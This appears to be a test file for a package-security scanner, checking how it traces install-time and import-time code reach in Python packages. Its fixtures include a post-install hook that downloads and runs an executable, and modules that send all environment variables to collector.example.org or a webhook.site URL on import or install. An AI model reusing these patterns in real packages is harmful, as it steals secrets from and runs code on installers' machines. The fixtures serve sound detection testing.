"""Install-time and import-time reach across files: setup.py -> package modules, __init__ -> sibling modules.

Fixtures are inert text written at test time; nothing is imported or run.
"""

from __future__ import annotations

from chainwatch.packages import signals as sg
from chainwatch.packages.reach import compute_reach, import_reach, install_reach
from tests.packages.helpers import facts_of, sdist, verdict, wheel_bytes

HELPER_DOWNLOAD_EXEC = '''
import os, subprocess, urllib.request, tempfile

def fetch_tool(url):
    path = os.path.join(tempfile.gettempdir(), "tool.exe")
    with open(path, "wb") as fh:
        fh.write(urllib.request.urlopen(url).read())
    subprocess.Popen([path])

def unrelated():
    return 1
'''

SETUP_CALLS_HELPER = '''
from setuptools import setup
from setuptools.command.install import install
from mypkg.helpers import fetch_tool

class Post(install):
    def run(self):
        install.run(self)
        fetch_tool("http://example.org/tool.exe")

setup(name="mypkg", version="1.0", packages=["mypkg"], cmdclass={"install": Post})
'''

SETUP_VERSION_ONLY = '''
from setuptools import setup
from mypkg.helpers import __version__
setup(name="mypkg", version=__version__, packages=["mypkg"])
'''


def _phases(facts, kind: str, file: str) -> set[str]:
    return {s.phase for s in facts.signals if s.kind == kind and s.file == file}


def test_compute_reach_follows_imports_calls_and_depth() -> None:
    sources = {
        "setup.py": "from pkg.a import go\ngo()\n",
        "pkg/__init__.py": "",
        "pkg/a.py": "from .b import step\ndef go():\n    step()\ndef idle():\n    pass\n",
        "pkg/b.py": "import pkg.c\ndef step():\n    pkg.c.last()\n",
        "pkg/c.py": "def last():\n    pass\ndef never():\n    pass\n",
        "pkg/unused.py": "def x():\n    pass\n",
    }
    reached = install_reach(sources)
    assert reached["pkg/a.py"].functions == {"go"}
    assert reached["pkg/b.py"].functions == {"step"}
    assert reached["pkg/c.py"].functions == {"last"}
    assert "pkg/__init__.py" in reached  # importing pkg.a runs the package __init__ first
    assert "pkg/unused.py" not in reached
    assert all(r.phase == sg.INSTALL for r in reached.values())
    # a depth limit of 1 stops after the first hop
    import chainwatch.packages.reach as reach_mod

    saved = reach_mod.MAX_DEPTH
    try:
        reach_mod.MAX_DEPTH = 1
        shallow = compute_reach(sources, ["setup.py"], sg.INSTALL, whole_entry=True)
    finally:
        reach_mod.MAX_DEPTH = saved
    assert "pkg/a.py" in shallow and "pkg/c.py" not in shallow


def test_import_reach_from_package_init() -> None:
    sources = {
        "lib/__init__.py": "from ._boot import start\nstart()\n",
        "lib/_boot.py": "def start():\n    helper()\ndef helper():\n    pass\ndef other():\n    pass\n",
    }
    reached = import_reach(sources)
    assert reached["lib/_boot.py"].phase == sg.IMPORT
    assert reached["lib/_boot.py"].functions == {"start", "helper"}


def test_setup_calling_package_function_counts_as_install_time() -> None:
    data = sdist("mypkg", "1.0", {"setup.py": SETUP_CALLS_HELPER, "mypkg/__init__.py": "",
                                  "mypkg/helpers.py": HELPER_DOWNLOAD_EXEC})
    facts = facts_of(data)
    assert sg.INSTALL in _phases(facts, sg.NETWORK, "mypkg/helpers.py")
    v, strong = verdict(data)
    assert v == "malicious", strong
    assert any(s.startswith("package.download-exec") for s in strong)


def test_same_helper_not_called_from_setup_stays_runtime() -> None:
    data = sdist("mypkg", "1.0", {"setup.py": SETUP_VERSION_ONLY, "mypkg/__init__.py": "",
                                  "mypkg/helpers.py": "__version__ = '1.0'\n" + HELPER_DOWNLOAD_EXEC})
    facts = facts_of(data)
    assert _phases(facts, sg.NETWORK, "mypkg/helpers.py") == {sg.RUNTIME}
    v, _ = verdict(data)
    assert v != "malicious"


def test_init_calling_sibling_exfiltration_is_import_time() -> None:
    steal = '''
import os, requests

def collect():
    data = dict(os.environ)
    requests.post("https://collector.example.org/in", json=data)
'''
    wheel = wheel_bytes({"evilpkg/__init__.py": "from .util import collect\ncollect()\n",
                         "evilpkg/util.py": steal,
                         "evilpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n"})
    facts = facts_of(wheel)
    assert sg.IMPORT in _phases(facts, sg.NETWORK, "evilpkg/util.py")
    quiet = wheel_bytes({"evilpkg/__init__.py": "from .util import collect\n", "evilpkg/util.py": steal,
                         "evilpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n"})
    assert _phases(facts_of(quiet), sg.NETWORK, "evilpkg/util.py") == {sg.RUNTIME}


def test_unparsable_and_cyclic_modules_do_not_break_reach() -> None:
    sources = {
        "setup.py": "import a\na.f()\n",
        "a/__init__.py": "from .b import g\ndef f():\n    g()\n",
        "a/b.py": "from . import f\ndef g():\n    f()\n",
        "a/broken.py": "def (:\n",
    }
    reached = install_reach(sources)
    assert reached["a/__init__.py"].functions >= {"f"}
    assert reached["a/b.py"].functions == {"g"}
    assert install_reach({"setup.py": "def (:"}) == {}


def test_same_name_in_package_is_not_confused_with_setuptools_setup() -> None:
    sources = {
        "setup.py": "from setuptools import setup\nimport docext\nsetup(name='docext', version=docext.__version__)\n",
        "docext/__init__.py": "__version__ = '1.0'\ndef setup(app):\n    app.connect('x', None)\n",
    }
    reached = install_reach(sources)
    assert "docext/__init__.py" in reached  # imported for its version: top-level code runs at install
    assert reached["docext/__init__.py"].functions == set()


def test_class_named_as_an_argument_is_not_run() -> None:
    sources = {
        "lib/__init__.py": "from lib.session import Session, start\nKINDS = (Session,)\n"
                           "print(isinstance(object(), Session))\nimport atexit\natexit.register(start)\n",
        "lib/session.py": "class Session:\n    def __init__(self):\n        self._connect()\n"
                          "    def _connect(self):\n        pass\ndef start():\n    pass\n",
    }
    reached = import_reach(sources)
    assert reached["lib/session.py"].functions == {"start"}


_QUERY_MODULE = '''"""Tiny query language."""
__version__ = "0.8.2"


def evaluate(expr, obj):
    return eval(expr, {}, {"obj": obj})
'''


def test_main_block_of_a_module_setup_imports_does_not_run_at_install() -> None:
    """setup.py imports the module for its __version__; its `if __name__ == "__main__":` CLI (which
    evaluates user expressions) runs only as a script, so nothing dynamic runs at install."""
    setup_py = ("from distutils.core import setup\nimport query as module\n"
                "setup(name='query', version=module.__version__)\n")
    guarded = _QUERY_MODULE + 'if __name__ == "__main__":\n    import sys\n    print(evaluate(sys.argv[1], {}))\n'
    install = install_reach({"setup.py": setup_py, "query.py": guarded})
    assert "evaluate" not in install["query.py"].functions
    _, strong = verdict(sdist("query", "0.8.2", {"setup.py": setup_py, "query.py": guarded}))
    assert not any(s.startswith("package.install-exec") for s in strong), strong
    unguarded = _QUERY_MODULE + 'print(evaluate("1+1", {}))\n'  # runs on import, so at install too
    install = install_reach({"setup.py": setup_py, "query.py": unguarded})
    assert "evaluate" in install["query.py"].functions
    main_in_setup = setup_py.replace("setup(", "if __name__ == '__main__':\n    from query import evaluate\n"
                                     "    evaluate('1', {})\nsetup(")
    assert "evaluate" in install_reach({"setup.py": main_in_setup, "query.py": _QUERY_MODULE})["query.py"].functions


def test_main_block_of_a_module_an_install_hook_runs_with_dash_m_still_counts() -> None:
    """setup.py's install command runs `python -m pkg.report` (a module it never imports): that module's
    __main__ block runs at install, so what it calls is judged, unlike a module setup.py imports."""
    setup_py = '''import subprocess, sys
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        install.run(self)
        subprocess.call([sys.executable, "-m", "pkg.report"])

setup(name="pkg", version="1.0", packages=["pkg"], cmdclass={"install": Post})
'''
    report = '''import os, socket, requests

def send():
    requests.post("https://webhook.site/0b1c2d3e-aaaa-bbbb-cccc-0123456789ab",
                  json={"host": socket.gethostname(), "env": dict(os.environ)})

if __name__ == "__main__":
    send()
'''
    v, strong = verdict(sdist("pkg", "1.0", {"setup.py": setup_py, "pkg/__init__.py": "", "pkg/report.py": report}))
    assert v != "clean" and any(s.split(":")[1] in ("high", "critical") for s in strong), (v, strong)
